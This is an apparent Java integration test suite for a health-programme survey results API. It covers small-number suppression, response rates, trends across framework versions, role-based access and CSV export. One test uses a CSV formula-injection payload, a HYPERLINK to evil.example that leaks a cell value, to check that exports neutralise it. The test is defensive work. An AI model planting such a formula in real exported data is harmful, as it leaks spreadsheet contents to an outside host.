package uk.nhs.cohortcoach.surveyservice.results;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.nhs.cohortcoach.platform.test.problem.ProblemAssertions.assertThatProblem;

import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.mongodb.core.MongoTemplate;
import org.springframework.data.mongodb.core.query.Criteria;
import org.springframework.data.mongodb.core.query.Query;
import tools.jackson.databind.JsonNode;
import uk.nhs.cohortcoach.platform.events.Role;
import uk.nhs.cohortcoach.platform.test.Http;
import uk.nhs.cohortcoach.platform.test.PlatformIntegrationTest;
import uk.nhs.cohortcoach.surveyservice.CohortEvents;
import uk.nhs.cohortcoach.surveyservice.framework.Framework;
import uk.nhs.cohortcoach.surveyservice.invitation.Invitation;
import uk.nhs.cohortcoach.surveyservice.invitation.InvitationStatus;
import uk.nhs.cohortcoach.surveyservice.readmodel.CollaborativeView;
import uk.nhs.cohortcoach.surveyservice.response.ResultCounts;
import uk.nhs.cohortcoach.surveyservice.wave.Wave;
import uk.nhs.cohortcoach.surveyservice.wave.WaveStatus;

@PlatformIntegrationTest
class ResultsApiIT {

    private static final String MANAGER = Http.bearer("m", Role.PROGRAMME_MANAGER);

    @LocalServerPort
    private int port;
    @Autowired
    private MongoTemplate mongo;

    private String cohortId;
    private String frameworkId;
    private String big;
    private String small;
    private String third;
    private String coachOfBig;
    private String baseline;
    private String midpoint;
    private String end;

    @BeforeEach
    void setUp() {
        cohortId = "cohort-" + UUID.randomUUID();
        frameworkId = "fw-" + UUID.randomUUID();
        big = "collab-" + UUID.randomUUID();
        small = "collab-" + UUID.randomUUID();
        third = "collab-" + UUID.randomUUID();
        coachOfBig = "coach-" + UUID.randomUUID();
        mongo.insert(Fixtures.framework(frameworkId, 1, 2, 2));
        mongo.insert(new CollaborativeView(big, cohortId, "Acute Hospitals Alliance", List.of(coachOfBig, "coach-all")));
        mongo.insert(new CollaborativeView(small, cohortId, "Joined Up Care Derbyshire", List.of("coach-all")));
        mongo.insert(new CollaborativeView(third, cohortId, "Mid and South Essex Community Collaborative", List.of("coach-all")));
        Instant t = Instant.parse("2026-01-05T09:00:00Z");
        // inserted out of order: the trend orders by opensAt
        end = wave("end", t.plus(Duration.ofDays(240)));
        baseline = wave("baseline", t);
        midpoint = wave("midpoint", t.plus(Duration.ofDays(120)));

        // midpoint: big 6 responses of 8 invited, small 3 of 4
        Fixtures.Tally bigTally = new Fixtures.Tally();
        for (int i = 0; i < 6; i++) {
            bigTally.add(i < 3 ? Map.of("c0-s0", "UNDERWAY", "c0-s1", "JUST_STARTED", "c1-s0", "FULLY_EMBEDDED")
                    : Map.of("c0-s0", "SUBSTANTIAL_PROGRESS", "c1-s0", "JUST_STARTED"));
        }
        Fixtures.Tally smallTally = new Fixtures.Tally();
        for (int i = 0; i < 3; i++) {
            smallTally.add(Map.of("c0-s0", "NOT_YET_STARTED", "c1-s0", "NOT_YET_STARTED"));
        }
        // third: 5 of 7. With only big and small, the cohort (9) minus big (6) would be small's 3: the third
        // collaborative is there so that big stays shown (third, the smallest shown, is hidden to protect small)
        Fixtures.Tally thirdTally = new Fixtures.Tally();
        for (int i = 0; i < 5; i++) {
            thirdTally.add(Map.of("c0-s0", "UNDERWAY", "c1-s0", "JUST_STARTED"));
        }
        counts(midpoint, big, bigTally);
        counts(midpoint, small, smallTally);
        counts(midpoint, third, thirdTally);
        invitations(midpoint, big, 8, 6);
        invitations(midpoint, small, 4, 3);
        invitations(midpoint, third, 7, 5);
        // baseline: big 5 all not yet started; end: big only 2 (suppressed)
        Fixtures.Tally early = new Fixtures.Tally();
        for (int i = 0; i < 5; i++) {
            early.add(Map.of("c0-s0", "NOT_YET_STARTED", "c0-s1", "NOT_YET_STARTED", "c1-s0", "JUST_STARTED"));
        }
        counts(baseline, big, early);
        Fixtures.Tally late = new Fixtures.Tally();
        late.add(Map.of("c0-s0", "FULLY_EMBEDDED")).add(Map.of("c0-s0", "FULLY_EMBEDDED"));
        counts(end, big, late);
    }

    @Test
    void resultsPerCollaborativeAndCohortWithSmallNumbersSuppressed() {
        JsonNode results = Http.json(get("/api/waves/" + midpoint + "/results", MANAGER, 200));

        assertThat(results.get("label").asString()).isEqualTo("midpoint");
        JsonNode collaboratives = results.get("collaboratives");
        assertThat(collaboratives).hasSize(3);
        JsonNode bigGroup = collaboratives.get(0);
        assertThat(bigGroup.get("name").asString()).isEqualTo("Acute Hospitals Alliance");
        assertThat(bigGroup.get("responseRate").get("invited").asLong()).isEqualTo(8);
        assertThat(bigGroup.get("responseRate").get("submitted").asLong()).isEqualTo(6);
        assertThat(bigGroup.get("responseRate").get("ratePercent").decimalValue()).isEqualByComparingTo("75.0");
        JsonNode figures = bigGroup.get("figures");
        assertThat(figures.get("suppressed").asBoolean()).isFalse();
        assertThat(figures.get("responses").asLong()).isEqualTo(6);
        JsonNode c0 = figures.get("components").get(0);
        // c0 pooled: U 3, JS 3, SP 3 → lower median of 9 = 5th = UNDERWAY
        assertThat(c0.get("answers").asLong()).isEqualTo(9);
        assertThat(c0.get("medianStage").asString()).isEqualTo("UNDERWAY");
        assertThat(c0.get("sharePercent").get("JUST_STARTED").decimalValue()).isEqualByComparingTo("33.3");
        JsonNode s0 = c0.get("statements").get(0);
        assertThat(s0.get("statementId").asString()).isEqualTo("c0-s0");
        assertThat(s0.get("sharePercent").get("SUBSTANTIAL_PROGRESS").decimalValue()).isEqualByComparingTo("50.0");
        // c1: FE 3, JS 3 → lower median JUST_STARTED
        assertThat(figures.get("components").get(1).get("medianStage").asString()).isEqualTo("JUST_STARTED");

        JsonNode smallGroup = collaboratives.get(1);
        assertThat(smallGroup.get("name").asString()).isEqualTo("Joined Up Care Derbyshire");
        assertThat(smallGroup.get("figures").get("suppressed").asBoolean()).isTrue();
        assertThat(smallGroup.get("figures").get("note").asString()).isEqualTo("fewer than 5");
        assertThat(smallGroup.get("figures").get("responses").isNull()).isTrue();
        assertThat(smallGroup.get("figures").get("components")).isEmpty();
        assertThat(smallGroup.get("responseRate").get("invited").asLong()).isEqualTo(4);
        assertThat(smallGroup.get("responseRate").get("suppressed").asBoolean()).isTrue();
        assertThat(smallGroup.get("responseRate").get("submitted").isNull()).isTrue();
        assertThat(smallGroup.get("responseRate").get("ratePercent").isNull()).isTrue();

        JsonNode thirdGroup = collaboratives.get(2);
        assertThat(thirdGroup.get("name").asString()).isEqualTo("Mid and South Essex Community Collaborative");
        assertThat(thirdGroup.get("figures").get("suppressed").asBoolean()).isTrue();
        assertThat(thirdGroup.get("figures").get("reason").asString()).isEqualTo("PROTECTS_ANOTHER");
        assertThat(thirdGroup.get("figures").get("note").asString()).isEqualTo("hidden so that another hidden figure cannot be worked out");
        assertThat(thirdGroup.get("figures").get("responses").isNull()).isTrue();
        assertThat(thirdGroup.get("responseRate").get("invited").asLong()).isEqualTo(7);
        assertThat(thirdGroup.get("responseRate").get("submitted").isNull()).isTrue();
        assertThat(smallGroup.get("figures").get("reason").asString()).isEqualTo("FEWER_THAN_5");

        // cohort: 6 + 3 + 5 = 14 of 19 invited; c0 pooled: 3 not yet started of 17 answers
        JsonNode cohort = results.get("cohort");
        assertThat(cohort.get("figures").get("responses").asLong()).isEqualTo(14);
        assertThat(cohort.get("responseRate").get("submitted").asLong()).isEqualTo(14);
        assertThat(cohort.get("responseRate").get("invited").asLong()).isEqualTo(19);
        assertThat(cohort.get("figures").get("components").get(0).get("sharePercent").get("NOT_YET_STARTED").decimalValue())
                .isEqualByComparingTo("17.6");
        // 14 − 6 = 8 is small and third together, 0–4 and 5–6 in some split: neither can be worked out
        assertThat(results.toString()).doesNotContain("\"responses\":3");
    }

    @Test
    void csvHasTheAggregatesAndFewerThanFiveForSmallGroups() {
        HttpResponse<String> response = send("/api/waves/" + midpoint + "/results.csv", MANAGER, "text/csv");
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/csv");
        List<String> lines = response.body().lines().toList();
        assertThat(lines.get(0)).isEqualTo("group,component,statement,stage,share_percent,responses");
        assertThat(lines).contains("Joined Up Care Derbyshire,,,,,fewer than 5");
        assertThat(lines).contains("Acute Hospitals Alliance,SHARED_PURPOSE_AND_VISION,,JUST_STARTED,33.3,6");
        assertThat(lines).contains("Acute Hospitals Alliance,SHARED_PURPOSE_AND_VISION,c0-s0,SUBSTANTIAL_PROGRESS,50.0,6");
        assertThat(lines).contains("Cohort,PEOPLE_AND_CULTURE,,NOT_YET_STARTED,21.4,14");
        assertThat(lines).contains("Mid and South Essex Community Collaborative,,,,,hidden so that another hidden figure cannot be worked out");
        assertThat(lines.stream().filter(l -> l.startsWith("Joined Up Care Derbyshire"))).hasSize(1);
    }

    @Test
    void aCollaborativeNamedLikeAFormulaComesOutOfTheCsvAsText() throws IOException {
        String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
        String named = "collab-" + UUID.randomUUID();
        CohortEvents.enrolledAs(named, cohortId, formula, "coach-all");
        Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> mongo.exists(
                Query.query(Criteria.where("_id").is(named)), CollaborativeView.class));
        Fixtures.Tally tally = new Fixtures.Tally();
        for (int i = 0; i < 8; i++) {
            tally.add(Map.of("c0-s0", "UNDERWAY", "c1-s0", "JUST_STARTED"));
        }
        // 8 responses (was 5: a second group of 5 beside the hidden-to-protect third would now be hidden too)
        counts(midpoint, named, tally);
        invitations(midpoint, named, 8, 8);

        HttpResponse<String> response = send("/api/waves/" + midpoint + "/results.csv", MANAGER, "text/csv");

        assertThat(response.statusCode()).isEqualTo(200);
        List<CSVRecord> records;
        try (CSVParser parser = CSVFormat.DEFAULT.parse(new StringReader(response.body()))) {
            records = parser.getRecords();
        }
        List<CSVRecord> ofNamed = records.stream().filter(r -> r.get(0).contains("HYPERLINK")).toList();
        assertThat(ofNamed).as("its figures are listed (8 responses)").hasSizeGreaterThan(1)
                .allSatisfy(r -> assertThat(r.get(0)).isEqualTo("'" + formula));
        assertThat(records).allSatisfy(r -> r.toList().forEach(cell -> assertThat(cell).doesNotStartWith("=")));
    }

    @Test
    void trendAcrossTheCohortsWavesInOrder() {
        JsonNode trend = Http.json(get("/api/waves/" + midpoint + "/results/trend?collaborativeId=" + big, MANAGER, 200));

        assertThat(trend.get("waves").findValuesAsString("label")).containsExactly("baseline", "midpoint", "end");
        assertThat(trend.get("waves").get(2).get("suppressed").asBoolean()).isTrue();
        JsonNode points = trend.get("components").get(0).get("points");
        assertThat(points.get(0).get("medianStage").asString()).isEqualTo("NOT_YET_STARTED");
        assertThat(points.get(0).get("sharePercent").get("NOT_YET_STARTED").decimalValue()).isEqualByComparingTo("100.0");
        assertThat(points.get(1).get("medianStage").asString()).isEqualTo("UNDERWAY");
        assertThat(points.get(2).get("suppressed").asBoolean()).isTrue();
        assertThat(points.get(2).get("note").asString()).isEqualTo("fewer than 5");
        assertThat(points.get(2).get("medianStage").isNull()).isTrue();

        JsonNode cohortTrend = Http.json(get("/api/waves/" + end + "/results/trend", MANAGER, 200));
        assertThat(cohortTrend.get("waves").findValuesAsString("label")).containsExactly("baseline", "midpoint", "end");
        assertThat(cohortTrend.get("components").get(1).get("points").get(1).get("medianStage").asString())
                .isEqualTo("JUST_STARTED");
    }

    @Test
    void aTrendAcrossTwoFrameworkVersionsComparesStatementsByIdAndShowsThoseAddedAndRemovedAsSuch() {
        // v2: c0-s0 reworded (same id), c0-s1 removed, c0-s2 added; component 1 unchanged
        Framework v1 = Fixtures.framework(frameworkId, 1, 2, 2);
        Framework.Component c0 = v1.components().get(0);
        Framework v2 = new Framework(Framework.idOf(frameworkId, 2), frameworkId, 2, "Maturity", List.of(
                new Framework.Component(c0.component(), c0.title(), List.of(new Framework.Statement("c0-s0", "Statement 0.0, reworded", true),
                        new Framework.Statement("c0-s2", "A new statement", false)), true),
                v1.components().get(1)), true, null);
        mongo.insert(v2);
        String later = wave("later", Instant.parse("2026-01-05T09:00:00Z").plus(Duration.ofDays(360)), 2);
        Fixtures.Tally tally = new Fixtures.Tally();
        for (int i = 0; i < 5; i++) {
            tally.add(Map.of("c0-s0", "FULLY_EMBEDDED", "c0-s2", "NOT_YET_STARTED", "c1-s0", "UNDERWAY"));
        }
        counts(later, big, tally);

        JsonNode trend = Http.json(get("/api/waves/" + later + "/results/trend?collaborativeId=" + big, MANAGER, 200));

        assertThat(trend.get("waves").findValuesAsString("label")).containsExactly("baseline", "midpoint", "end", "later");
        assertThat(trend.get("waves")).extracting(w -> w.get("frameworkNumber").asInt()).containsExactly(1, 1, 1, 2);
        JsonNode component = trend.get("components").get(0);
        assertThat(component.get("comparedStatements")).extracting(JsonNode::asString).containsExactly("c0-s0");
        // like with like: the component pools c0-s0 only; with the new c0-s2 pooled in, the later median would drop to NOT_YET_STARTED
        assertThat(component.get("points").get(0).get("medianStage").asString()).isEqualTo("NOT_YET_STARTED");
        assertThat(component.get("points").get(3).get("medianStage").asString()).isEqualTo("FULLY_EMBEDDED");
        assertThat(component.get("points").get(3).get("sharePercent").get("FULLY_EMBEDDED").decimalValue()).isEqualByComparingTo("100.0");

        JsonNode statements = component.get("statements");
        assertThat(statements).extracting(st -> st.get("statementId").asString() + " " + st.get("change").asString())
                .containsExactly("c0-s0 KEPT", "c0-s1 REMOVED", "c0-s2 ADDED");
        assertThat(statements.get(0).get("text").asString()).isEqualTo("Statement 0.0, reworded");
        JsonNode removed = statements.get(1).get("points");
        assertThat(removed.get(0).get("asked").asBoolean()).isTrue();
        assertThat(removed.get(0).get("sharePercent").get("NOT_YET_STARTED").decimalValue()).isEqualByComparingTo("100.0");
        assertThat(removed.get(3).get("asked").asBoolean()).as("not asked in v2").isFalse();
        assertThat(removed.get(3).get("sharePercent").isNull()).as("no figures, not a drop to zero").isTrue();
        JsonNode added = statements.get(2).get("points");
        assertThat(added).extracting(p -> p.get("asked").asBoolean()).containsExactly(false, false, false, true);
        assertThat(added.get(3).get("sharePercent").get("NOT_YET_STARTED").decimalValue()).isEqualByComparingTo("100.0");
        assertThat(statements.get(0).get("points").get(2).get("suppressed").asBoolean()).as("end's group is under 5").isTrue();

        JsonNode unchanged = trend.get("components").get(1);
        assertThat(unchanged.get("comparedStatements")).extracting(JsonNode::asString).containsExactly("c1-s0", "c1-s1");
        assertThat(unchanged.get("statements")).extracting(st -> st.get("change").asString()).containsOnly("KEPT");
        assertThat(unchanged.get("points").get(3).get("medianStage").asString()).isEqualTo("UNDERWAY");
    }

    @Test
    void aWaveNotOpenYetIsNotInTheTrend() {
        String scheduled = "wave-" + UUID.randomUUID();
        Instant opensAt = Instant.parse("2026-01-05T09:00:00Z").plus(Duration.ofDays(400));
        mongo.insert(new Wave(scheduled, cohortId, "next", frameworkId, 1, opensAt, opensAt.plus(Duration.ofDays(14)), WaveStatus.SCHEDULED,
                null, null, null, null));

        JsonNode trend = Http.json(get("/api/waves/" + midpoint + "/results/trend?collaborativeId=" + big, MANAGER, 200));

        assertThat(trend.get("waves").findValuesAsString("label")).containsExactly("baseline", "midpoint", "end");
    }

    @Test
    void coachesSeeTheirCollaborativesOnlyAndParticipantsNothing() {
        JsonNode results = Http.json(get("/api/waves/" + midpoint + "/results", Http.bearer(coachOfBig, Role.COACH), 200));
        assertThat(results.get("collaboratives")).hasSize(1);
        assertThat(results.get("collaboratives").get(0).get("collaborativeId").asString()).isEqualTo(big);
        assertThat(results.get("cohort").isNull()).isTrue();
        String csv = send("/api/waves/" + midpoint + "/results.csv", Http.bearer(coachOfBig, Role.COACH), "text/csv").body();
        assertThat(csv).doesNotContain("Joined Up Care Derbyshire").doesNotContain("Cohort");

        JsonNode all = Http.json(get("/api/waves/" + midpoint + "/results", Http.bearer("coach-all", Role.COACH), 200));
        assertThat(all.get("collaboratives")).hasSize(3);
        assertThat(all.get("cohort").get("figures").get("responses").asLong()).isEqualTo(14);

        assertThatProblem(send("/api/waves/" + midpoint + "/results/trend?collaborativeId=" + small, Http.bearer(coachOfBig, Role.COACH),
                null)).hasStatus(403);
        assertThatProblem(send("/api/waves/" + midpoint + "/results/trend", Http.bearer(coachOfBig, Role.COACH), null)).hasStatus(403);
        assertThatProblem(send("/api/waves/" + midpoint + "/results", Http.bearer("p", Role.PARTICIPANT), null)).hasStatus(403);
        assertThatProblem(send("/api/waves/" + midpoint + "/results.csv", Http.bearer("p", Role.PARTICIPANT), null)).hasStatus(403);
        assertThatProblem(send("/api/waves/" + midpoint + "/results/trend", Http.bearer("p", Role.PARTICIPANT), null)).hasStatus(403);
    }

    @Test
    void unknownWaveOrCollaborativeIs404() {
        assertThatProblem(send("/api/waves/nope/results", MANAGER, null)).hasStatus(404);
        assertThatProblem(send("/api/waves/nope/results/trend", MANAGER, null)).hasStatus(404);
        assertThatProblem(send("/api/waves/" + midpoint + "/results/trend?collaborativeId=nope", MANAGER, null)).hasStatus(404);
    }

    private String wave(String label, Instant opensAt) {
        return wave(label, opensAt, 1);
    }

    private String wave(String label, Instant opensAt, int frameworkNumber) {
        String id = "wave-" + UUID.randomUUID();
        mongo.insert(new Wave(id, cohortId, label, frameworkId, frameworkNumber, opensAt, opensAt.plus(Duration.ofDays(21)), WaveStatus.CLOSED,
                opensAt.plus(Duration.ofDays(21)), "m", null, null));
        return id;
    }

    private void counts(String waveId, String collaborativeId, Fixtures.Tally tally) {
        mongo.insert(new ResultCounts(ResultCounts.idOf(waveId, collaborativeId), waveId, collaborativeId, tally.responses,
                tally.stages));
    }

    private void invitations(String waveId, String collaborativeId, int invited, int submitted) {
        List<Invitation> list = new ArrayList<>();
        for (int i = 0; i < invited; i++) {
            list.add(new Invitation(UUID.randomUUID().toString(), waveId, "person-" + UUID.randomUUID(), collaborativeId, "board",
                    UUID.randomUUID().toString(), i < submitted ? InvitationStatus.SUBMITTED : InvitationStatus.ISSUED, null, null,
                    null, false, Instant.now(), null));
        }
        mongo.insertAll(list);
    }

    private HttpResponse<String> get(String path, String authorization, int status) {
        HttpResponse<String> response = send(path, authorization, null);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
        return response;
    }

    private HttpResponse<String> send(String path, String authorization, String accept) {
        return new Http(port).request("GET", path).authorization(authorization)
                .header("Accept", accept == null ? "application/json, application/problem+json" : accept + ", application/problem+json")
                .send();
    }
}
